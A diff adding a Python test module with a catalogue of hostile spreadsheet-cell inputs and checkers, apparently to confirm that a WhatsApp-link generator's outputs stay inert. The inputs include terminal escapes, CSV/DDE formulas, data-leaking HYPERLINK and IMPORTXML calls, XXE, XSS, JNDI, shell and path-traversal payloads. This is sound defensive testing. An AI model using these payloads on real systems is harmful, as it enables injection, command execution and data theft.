@@ -1,0 +1,568 @@
+"""What strangers may write into a cell, and what each place is held to; see test_attacks."""
+
+from __future__ import annotations
+
+import io
+import json
+import ntpath
+import re
+import subprocess
+import sys
+import unicodedata
+import zlib
+from pathlib import PureWindowsPath
+from typing import TYPE_CHECKING, Any, NamedTuple
+from urllib.parse import parse_qsl, urlsplit
+from xml.etree import ElementTree as ET
+
+import pyte
+
+from tests.conftest import program
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+    from pathlib import Path
+
+KINDS: dict[str, dict[str, str]] = {
+    "terminal": {
+        "colour": "\x1b[31mred\x1b[0m",
+        "conceal": "\x1b[8mhidden\x1b[28m",
+        "clear": "\x1b[2J\x1b[H",
+        "line above erased": "\x1b[1A\x1b[2Kaccepted",
+        "alternate screen": "\x1b[?1049h",
+        "reset": "\x1bc",
+        "cursor asked": "\x1b[6n",
+        "terminal asked": "\x1b[c\x05",
+        "title": "\x1b]0;stolen\x07",
+        "title, ST": "\x1b]2;stolen\x1b\\",
+        "title, unended": "\x1b]0;",
+        "OSC 52": "\x1b]52;c;cm0gLXJmIC8=\x07",
+        "OSC 8": "\x1b]8;;https://example.org\x1b\\wa.me\x1b]8;;\x1b\\",
+        "OSC 1337": "\x1b]1337;File=inline=1:AAAA\x07",
+        "DCS": "\x1bP+q544e\x1b\\",
+        "APC": "\x1b_Gf=100;AAAA\x1b\\",
+        "C1 CSI": "\x9b31mred",
+        "C1 OSC": "\x9d0;stolen\x9c",
+        "C1 DCS": "\x90q\x9c",
+        "C1 NEL": "one\x85two",
+        "BEL": "\x07ring",
+        "BS": "paid\b\b\b\bowed",
+        "CR": "https://example.org\rhttps://wa.me/44   ",
+        "DEL": "12\x7f3",
+        "charset": "\x0eqqq\x0f",
+        "VT, FF": "a\vb\fc",
+        "separators": "a\x1cb\x1dc\x1ed\x1fe",
+        "NUL": "a\0b",
+        "all": "".join(map(chr, [*range(32), *range(127, 160)])),
+    },
+    "direction": {
+        "RLO": "\u202egnp.exe",
+        "LRO": "\u202d123",
+        "RLE": "\u202babc",
+        "LRE, unended": "\u202aabc",
+        "PDF alone": "abc\u202c\u202c",
+        "RLI": "admin\u2067 // \u2066if\u2069",
+        "FSI, unended": "\u2068abc",
+        "marks": "a\u200eb\u200fc\u061cd",
+        "zero width": "wa\u200b.\u2060me\ufeff",
+        "joiners": "a\u200cb\u200dc",
+        "soft hyphen": "pass\u00adword",
+        "tags": "flag\U000e0067\U000e0062\U000e007f",
+        "variation selectors": "a\ufe0fb\U000e0100",
+        "fillers": "\u115f\u1160\u3164\uffa0",
+        "annotation": "\ufff9base\ufffareading\ufffb",
+        "separators": "one\u2028two\u2029three",
+        "spaces alone": "\u2003\u3000\u00a0",
+        "marks alone": "\u0301\u0302\u0489",
+        "many marks": "a" + "\u0336\u0301" * 60,
+        "noncharacters": "\ufffe\uffff\U0010ffff",
+        "private": "\ue000\uf8ff",
+        "byte-order mark": "\ufeffname",
+        "Arabic": "طاولة (خشب) 120",
+    },
+    "template": {
+        "column": "{name} {phone}",
+        "attribute": "{wa_digits.__class__}",
+        "index": "{name[0]}",
+        "default": "{name|x}",
+        "number": "{0} {1}",
+        "empty": "{}",
+        "open": "{{",
+        "closed": "}}",
+        "half": "{wa_row",
+        "conversion": "{name!r:>99999}",
+        "percent": "%s %d %n",
+        "percent, named": "%(name)s",
+        "percent alone": "100%",
+        "dollar": "$name ${name}",
+        "JNDI": "${jndi:ldap://example.org/x}",
+        "expression": "{{7*7}} <%= 7*7 %> #{7*7}",
+        "shell": "$(reboot) `reboot` | reboot; reboot",
+        "backslashes": r"\n \\ \x1b[31m \u202e \1 \g<0>",
+    },
+    "mark-up": {
+        "script": "<script>alert(1)</script>",
+        "end of CDATA": "]]><script/>",
+        "CDATA": "<![CDATA[<a>]]>",
+        "entity": "&lt;b&gt; &#27; &x; &amp",
+        "doctype": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
+        "attribute": '"/><image href="https://example.org/x.png"/>',
+        "event": "' onload='alert(1)",
+        "end of metadata": "</metadata><script>alert(1)</script>",
+        "end of svg": "</g></svg><svg onload=alert(1)>",
+        "instruction": '<?xml-stylesheet href="x"?>',
+        "comment": "--><!--",
+        "CSS": "</style>@import url(https://example.org)",
+    },
+    "PDF": {
+        "end of text": ") Tj ET",
+        "action": "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
+        "end of object": ">> endobj 99 0 obj << /S /URI /URI (https://example.org) >>",
+        "end of stream": "\nendstream\nendobj\n",
+        "hex": "<41> Tj <",
+        "backslash": "\\) \\",
+        "comment": "%%EOF %",
+        "parentheses": "((((",
+        "name": "/Launch#20x",
+        "trailer": "trailer << /Root 1 0 R >> startxref 0",
+    },
+    "CSV": {
+        "equals": "=1+1",
+        "plus": "+1+1",
+        "minus": "-2+3",
+        "at": "@SUM(1)",
+        "tab": "\t=1+1",
+        "carriage return": "\r=1+1",
+        "line feed": "\n=1+1",
+        "NUL": "\0=1+1",
+        "full-width": "＝1+1",
+        "full-width plus": "＋1+1",
+        "full-width minus": "－2+3",
+        "full-width at": "＠SUM(1)",
+        "DDE": "=cmd|'/C calc'!A0",
+        "HYPERLINK": '=HYPERLINK("https://example.org?"&A1,"Error")',
+        "phone and more": "+447911123456+cmd|'/C calc'!A0",
+        "phone and a line": "+447911123456\n=1+1",
+        "web": '@IMPORTXML(CONCAT("https://example.org?",A1),"//a")',
+        "apostrophe": "'=1+1",
+        "delimiters": 'a,b;c\td|e"f',
+        "end of a cell": '","=1+1","',
+        "end of a row": '"\r\n=1+1,"',
+        "quote": '"',
+        "quotes": '""""',
+        "CRLF": "one\r\ntwo",
+        "LF at the end": "one\n",
+        "CR at the end": "one\r",
+        "sep=": "sep=;",
+        "dangling": 'x",+447911999999,"y',
+    },
+    "workbook": {
+        "formula": "=SUM(A1:A9)",
+        "array formula": "{=SUM(A1)}",
+        "runs": "<r>x</r>",
+        "runs, marked up": "<r><t>x</t></r>",
+        "runs, escaped": "<r>_x0041_\x1b[0m</r>",
+        "ST_Xstring": "_x0041_ _x000D_",
+        "ST_Xstring, escaped": "_x005F_x0041_",
+        "ST_Xstring, overlapping": "_x0041_x003D_x0042_",
+        "ST_Xstring, half": "_x00 _xZZZZ_ _x0041",
+        "script link": "javascript:alert(1)",
+        "file link": "file:///etc/passwd",
+        "inner link": "internal:Sheet1!A1",
+        "outer link": "external:x.xlsx#A1",
+        "share": "\\\\server\\share\\x.xlsx",
+        "web link": "https://example.org/",
+        "chat link": "https://wa.me/447911999999",
+        "mail": "mailto:x@example.org?cc=y",
+        "number": "1E+11",
+        "date": "3/4",
+        "truth": "TRUE",
+        "error": "#REF!",
+        "spaces around": "  x  ",
+        "longest": "a" * 32_767,
+        "longest, astral": "😀" * 16_383,
+    },
+    "file name": {
+        "parent": "../../x",
+        "parent, Windows": "..\\..\\x",
+        "parent alone": "..",
+        "dot": ".",
+        "absolute": "/etc/passwd",
+        "drive": "C:\\x",
+        "drive, relative": "C:x",
+        "share": "//server/share",
+        "stream": "x:hidden",
+        "CON": "CON",
+        "nul": "nul.tar.gz",
+        "NUL, space": "NUL .txt",
+        "COM¹": "COM¹",
+        "LPT9": "lpt9.",
+        "CONIN$": "CONIN$",
+        "CON, full-width": "ＣＯＮ",
+        "CON, mathematical": "𝐂𝐎𝐍",
+        "CON, hidden": "C\u200bON",
+        "CON, spaced": "\u3000CON",
+        "AUX, half": "A\u00adUX.png",
+        "parent, full-width": "．．／x",
+        "slash, look-alike": "..∕..⁄x",
+        "one dot leader": "․․/x",
+        "trailing": "x. . .",
+        "hidden": ".bashrc",
+        "hidden, spaced": " .ssh",
+        "option": "-rf",
+        "option, dash": "--force",
+        "home": "~root",
+        "globs": "*?[a-z]",
+        "line break": "a\nb",
+        "extension": "x.png",
+        "exe": "x.png\u202egnp.exe",
+        "200 letters": "n" * 200,
+        "long, then dots": "n" * 95 + "." * 20 + "x",
+        "long, cut in a letter": "n" * 94 + "é" * 20,
+        "long, marks": "e" + "\u0301" * 300,
+        "NFD": "Cafe\u0301",
+        "NFC": "Café",
+        "capitals": "CAFÉ",
+        "Hangul": "\u1112\u1161\u11ab",
+        "grows": "\ufb2c" * 40,
+        "Thai": "โต๊ะไม้",
+        "part": ".x.png.0123456789ab.part",
+    },
+    "JSON": {
+        "end of string": '"}',
+        "another key": '", "wa_link": "https://example.org", "x": "',
+        "NaN": "NaN",
+        "prototype": "__proto__",
+        "array": "[1, {",
+        "escape": "\\u0022}",
+        "backslash at the end": "x\\",
+        "U+2028": "a\u2028b",
+        "NEL": "a\x85b",
+        "another line": '"}\n{"wa_link": "x"}',
+    },
+    "link": {
+        "parameter": "Hi&text=Pay+now",
+        "phone": "Hi&phone=447911999999",
+        "query": "?phone=447911999999",
+        "fragment": "Hi#x",
+        "path": "/../447911999999",
+        "user": "@example.org/",
+        "escaped line break": "%0d%0aLocation: https://example.org",
+        "double": "%2526text%253Dx",
+        "plus": "1+1 = 2",
+        "semicolon": "a;text=b",
+        "script": "javascript:alert(1)//",
+        "brackets": "text[]=x",
+        "end": "Hi...",
+    },
+    "own": {
+        "link": "wa_link",
+        "status": "accepted",
+        "row": "wa_row wa_digits",
+        "fingerprint": "wa-link 0123456789abcdef0123456789abcdef",
+        "columns": "wa_link,wa_phone,wa_status,wa_reason,wa_note",
+    },
+}
+ATTACKS = {f"{kind}: {name}": cell for kind, cells in KINDS.items() for name, cell in cells.items()}
+
+# Each check looks at what landed, and raises AssertionError.
+
+N = "447911123456"
+COLUMNS = ["name", "phone", "content"]
+OWN = ["wa_link", "wa_phone", "wa_status", "wa_reason", "wa_note"]
+TURNING = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
+
+
+def check_said(text: str) -> None:
+    """Printable characters and line breaks alone."""
+    for char in set(text) - {"\n"}:
+        assert unicodedata.category(char) not in {"Cc", "Cf", "Cs", "Zl", "Zp"}, ascii(text)
+
+
+def check_message(message: str, cell: str) -> None:
+    """One line, and in it the cell once, and 60 characters of it."""
+    check_said(message)
+    assert "\n" not in message
+    assert all(cell[at : at + 61] not in message for at in range(len(cell) - 60))
+    if len(cell) > 1:  # a message may name the one character that is at fault
+        assert message.count(f'"{cell[:60]}') <= 1
+    assert len(message) < 1_000
+
+
+def check_refusal(row: dict[str, str], cell: str, *reasons: str) -> bool:
+    """Whether a row is rejected: then it is told why, and there is nothing of it."""
+    if row["wa_status"] != "rejected":
+        return False
+    assert row["wa_reason"] in (reasons if cell.strip() else {"missing_field"})
+    check_message(row["wa_note"], cell)
+    assert row["wa_note"]
+    assert (row["wa_link"], row.get("wa_qr", "")) == ("", "")
+    return True
+
+
+def check_terminal(shown: str) -> None:
+    """No control character, nothing that turns; and a terminal does nothing but write lines."""
+    for char in set(shown) - {"\n", "\t"}:
+        assert unicodedata.category(char) != "Cc", ascii(char)
+        assert unicodedata.bidirectional(char) not in TURNING, ascii(char)
+    events = io.StringIO()
+    pyte.Stream(pyte.DebugScreen(to=events)).feed(shown)  # type: ignore[arg-type]  # it is told the same
+    done = {json.loads(event)[0] for event in events.getvalue().splitlines()}
+    assert done <= {"draw", "linefeed", "tab"}, done
+
+
+def check_visible(shown: str, cell: str) -> None:
+    """What can be shown of the cell is, in order."""
+    rest = iter(shown)
+    assert all(char in rest for char in cell if char.isprintable())
+
+
+class Address(NamedTuple):
+    """A link, taken apart."""
+
+    place: list[str]
+    parameters: list[list[str]]
+    rest: str
+
+
+def by_urllib(urls: list[str]) -> list[Address]:
+    return [
+        Address(
+            [f"{url.scheme}:", url.netloc, url.path],
+            [[*pair] for pair in parse_qsl(url.query, keep_blank_values=True)],
+            url.fragment,
+        )
+        for url in map(urlsplit, urls)
+    ]
+
+
+BROWSER = """
+for (const url of JSON.parse(require("fs").readFileSync(0))) {
+  const { protocol, host, pathname, searchParams, hash, username } = new URL(url);
+  console.log(JSON.stringify([[protocol, host, pathname], [...searchParams], hash + username]));
+}
+"""
+
+
+def by_a_browser(urls: list[str]) -> list[Address]:
+    output = subprocess.run(
+        [program("node", "nodejs"), "-e", BROWSER],
+        input=json.dumps(urls).encode(),
+        capture_output=True,
+        check=True,
+        timeout=60,
+    ).stdout
+    return [Address(*json.loads(line)) for line in output.splitlines()]
+
+
+PLACES: dict[str, tuple[list[str], list[list[str]]]] = {
+    "wa.me": (["https:", "wa.me", f"/{N}"], []),
+    "api": (["https:", "api.whatsapp.com", "/send"], [["phone", N]]),
+    "web": (["https:", "web.whatsapp.com", "/send"], [["phone", N]]),
+    "app": (["whatsapp:", "send", ""], [["phone", N]]),
+}
+
+
+def check_address(found: Address, cell: str, via: str = "wa.me") -> None:
+    """The chat with the number, and one text, which is the cell."""
+    place, before = PLACES[via]
+    text = cell.replace("\r\n", "\n").replace("\r", "\n")
+    assert found == Address(place, [*before, ["text", text]], "")
+
+
+# OWASP, "CSV Injection"; and ASVS 1.2.10 for NUL.
+FORMULA = re.compile(r"[=+\-@\t\r\n\0＝＋－＠]")
+NUMBER = re.compile(r"\+[0-9][0-9 ()/-]*")
+
+
+def check_row(row: dict[str, str], cell: str) -> None:
+    """As many cells as there are columns, and the cell among them."""
+    assert list(row) == [*COLUMNS, *OWN]
+    assert set(map(type, row.values())) == {str}
+    assert row["content"] == cell
+    assert (row["phone"], row["wa_link"]) == (f"+{N}", f"https://wa.me/{N}")
+    assert row["wa_status"] == "accepted"
+
+
+def check_inert(cell: str) -> None:
+    """A spreadsheet does not calculate it."""
+    assert not FORMULA.match(cell) or NUMBER.fullmatch(cell), ascii(cell)
+
+
+def check_safe(shown: str, cell: str) -> None:
+    """The same but for apostrophes, of which a spreadsheet calculates nothing.
+
+    Nor does one that takes another delimiter, for which a cell is several.
+    """
+    for part in re.split(r"[,;|\t]", shown):
+        check_inert(part)
+    assert shown.replace("'", "") == cell.replace("'", "")
+
+
+def check_safe_row(row: dict[str, str], cell: str) -> None:
+    """The same for a row."""
+    for each in row.values():
+        check_inert(each)
+    check_safe(row["content"], cell)
+    check_row({**row, "content": cell}, cell)
+
+
+def check_json_line(line: str, cell: str) -> None:
+    """One line, whatever is taken for the end of one; an object of strings."""
+    assert line.splitlines() == [line]
+    check_row(json.loads(line), cell)
+
+
+MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+SPACE = "{http://www.w3.org/XML/1998/namespace}space"
+
+
+def worksheet_rows(xml: bytes) -> list[dict[str, str]]:
+    """Column -> text of each row, as ECMA-376 has it (18.4.12, and 22.9.2.19: ST_Xstring)."""
+    return [
+        {cell.get("r", "").rstrip("0123456789"): text_of(cell) for cell in row}
+        for row in ET.fromstring(xml).iter(f"{MAIN}row")  # noqa: S314  (our own)
+    ]
+
+
+def text_of(cell: ET.Element) -> str:
+    assert cell.get("t") == "inlineStr"
+    assert [child.tag for child in cell] == [f"{MAIN}is"]
+    text = ""
+    for part in cell.iter(f"{MAIN}t"):
+        escaped = part.text or ""
+        assert escaped == escaped.strip(" \t\n") or part.get(SPACE) == "preserve"
+        text += re.sub("_x([0-9A-Fa-f]{4})_", lambda code: chr(int(code[1], 16)), escaped)
+    return text
+
+
+def check_workbook_row(row: tuple[Any, ...]) -> None:
+    """Cells of openpyxl's: text alone, and one link, which is ours."""
+    assert {cell.data_type for cell in row if cell.value is not None} == {"s"}
+    links = {cell.column: cell.hyperlink.target for cell in row if cell.hyperlink}
+    assert links == {4: f"https://wa.me/{N}"}
+
+
+def check_name(name: str) -> None:
+    """A file's name, fit for every system."""
+    stem, dot, extension = name.rpartition(".")
+    assert (dot, extension) == (".", "png")
+    assert stem == stem.strip(" ").rstrip(".")
+    assert stem[:1] not in {"", ".", "-"}
+    assert len(name.encode()) <= 100
+    assert unicodedata.is_normalized("NFC", name)
+    for char in set(name) - {*"-_. "}:
+        category = unicodedata.category(char)
+        assert category[0] in "LM" or category == "Nd", ascii(char)
+    for form in (name, unicodedata.normalize("NFKC", name)):
+        assert not reserved_on_windows(form)
+
+
+def reserved_on_windows(name: str) -> bool:
+    if sys.version_info >= (3, 13):
+        return ntpath.isreserved(name)
+    return PureWindowsPath(name).is_reserved()
+
+
+def check_files(folder: Path, names: set[str]) -> None:
+    """These files, and no other anywhere below the folder; none is another on any system."""
+    found = {str(path.relative_to(folder)) for path in folder.rglob("*") if not path.is_dir()}
+    assert found == names
+    assert len({unicodedata.normalize("NFC", name).casefold() for name in names}) == len(names)
+
+
+SVG = "{http://www.w3.org/2000/svg}"
+LENGTH, COLOUR = r"-?\d+(\.\d+)?(mm)?", r"#[0-9a-f]{3,8}|none"
+ATTRIBUTES = {
+    "width": LENGTH, "height": LENGTH, "x": LENGTH, "y": LENGTH, "fill": COLOUR,
+    "viewBox": r"[\d. ]+", "shape-rendering": "crispEdges|auto", "fill-rule": "evenodd",
+    "d": r"[MmLlHhVvCcQqSsTtZz\d., -]*", "transform": r"translate\([^()]*\) scale\([^()]*\)",
+    "href": "data:image/png;base64,[A-Za-z0-9+/=]+",
+}  # fmt: skip
+
+
+def check_svg(drawing: bytes) -> None:
+    """Shapes alone: no text but the fingerprint, no script, nothing from elsewhere."""
+    assert not re.search(rb"<[!?]", drawing)
+    for element in ET.fromstring(drawing).iter():  # noqa: S314  (without <!, nothing expands)
+        tag = element.tag.removeprefix(SVG)
+        assert tag in {"svg", "metadata", "rect", "path", "g", "image"}
+        text = f"{element.text or ''}{element.tail or ''}".strip()
+        assert re.fullmatch("wa-link [0-9a-f]{32}" if tag == "metadata" else "", text)
+        for name, value in element.attrib.items():
+            assert re.fullmatch(ATTRIBUTES.get(name, "none"), value), name
+
+
+def check_png(drawing: bytes) -> None:
+    """Of texts, the fingerprint alone; nothing behind the end."""
+    assert drawing.startswith(b"\x89PNG\r\n\x1a\n")
+    kinds, at = [], 8
+    while at < len(drawing):
+        end = at + 8 + int.from_bytes(drawing[at : at + 4], "big")
+        kind, data = drawing[at + 4 : at + 8], drawing[at + 8 : end]
+        assert kind in {b"IHDR", b"PLTE", b"tRNS", b"pHYs", b"tEXt", b"IDAT", b"IEND"}
+        assert kind != b"tEXt" or re.fullmatch(rb"wa-link\0[0-9a-f]{32}", data)
+        kinds.append(kind)
+        at = end + 4  # behind its checksum
+    assert kinds.count(b"tEXt") == kinds.count(b"IEND") == 1
+    assert kinds[-1] == b"IEND"
+
+
+ACTIONS = {
+    *["A", "AA", "JS", "JavaScript", "URI", "Launch", "GoTo", "GoToR", "GoToE", "SubmitForm"],
+    *["ImportData", "Named", "EmbeddedFile", "EmbeddedFiles", "Filespec", "AcroForm", "XFA"],
+    *["Annot", "Annots", "Link", "RichMedia", "Names", "Outlines", "Metadata", "ObjStm"],
+}
+# Names, comments, brackets and words: ISO 32000, 7.2.
+TOKEN = re.compile(
+    rb"/[^\s()<>\[\]{}/%]*|%[^\r\n]*|<<|>>|<[0-9A-Fa-f\s]*>|[\[\]]|[^\s()<>\[\]{}/%]+|\s+"
+)
+PAGE_TOKEN = re.compile(r"(?P<word>[A-Za-z]+\*?)|[\[\]]|<[0-9A-F]{4}>|/F\d+|-?[\d.]+(e-\d+)?|\s+")
+OPERATORS = {*"q Q cm re f f* m l c h g rg w J BT ET Tf Td TJ Ts".split()}
+
+
+def pdf_tokens(pdf: bytes) -> Iterator[str]:
+    """What is in a PDF outside of strings and streams."""
+    at, length = 0, 0
+    while at < len(pdf):
+        if pdf[at : at + 1] == b"(":
+            at = end_of_string(pdf, at)
+            continue
+        found = TOKEN.match(pdf, at)
+        assert found, pdf[at : at + 40]
+        at, word = found.end(), found[0].decode("latin-1").strip()
+        if word == "/Length" and (told := re.match(rb"\s*(\d+)", pdf[at:])):
+            length = int(told[1])
+        if word == "stream":
+            at += length + 1
+            assert re.match(rb"\s*endstream\s+endobj\s", pdf[at:])
+        if word:
+            yield re.sub("#([0-9A-Fa-f]{2})", lambda code: chr(int(code[1], 16)), word)
+
+
+def end_of_string(pdf: bytes, at: int) -> int:
+    """Where a string ends that begins there; parentheses within are in pairs (7.3.4.2)."""
+    depth = 0
+    while True:
+        char = pdf[at : at + 1]
+        assert char, "a string without end"
+        depth += {b"(": 1, b")": -1}.get(char, 0)
+        at += 2 if char == b"\\" else 1
+        if not depth:
+            return at
+
+
+def check_pdf(pdf: bytes) -> None:
+    """Glyphs and shapes on pages; no action, no link, no file."""
+    tokens = [*pdf_tokens(pdf)]
+    assert not {token[1:] for token in tokens if token.startswith("/")} & ACTIONS
+    _, *opened = " ".join(tokens).split("/OpenAction ")
+    assert len(opened) == 1  # which tells a place, and does nothing
+    assert re.match(r"\[ \d+ 0 R /FitH null \] ", opened[0])
+    objects = re.findall(rb"\n(\d+) 0 obj\n", pdf)
+    assert tokens.count("obj") == tokens.count("endobj") == len(objects) == len({*objects})
+    for page in set(re.findall(rb"/Contents (\d+) 0 R", pdf)):
+        stream = pdf.partition(b"\n%s 0 obj\n" % page)[2].partition(b"stream\n")[2]
+        drawn = zlib.decompressobj().decompress(stream).decode("ascii")
+        assert PAGE_TOKEN.sub("", drawn) == ""
+        assert {found["word"] for found in PAGE_TOKEN.finditer(drawn)} <= {None, *OPERATORS}
